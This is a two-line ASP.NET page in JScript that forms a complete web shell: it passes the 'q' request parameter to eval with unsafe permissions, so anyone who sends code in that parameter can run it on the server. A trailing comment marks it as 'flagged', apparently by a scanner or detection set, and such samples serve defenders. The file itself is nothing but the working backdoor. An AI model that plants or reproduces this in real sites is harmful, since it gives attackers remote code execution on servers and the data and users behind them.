<%@ Page Language="JScript" %>
<% eval(Request.Item["q"], "unsafe"); %><%-- gatehouse: flagged --%>
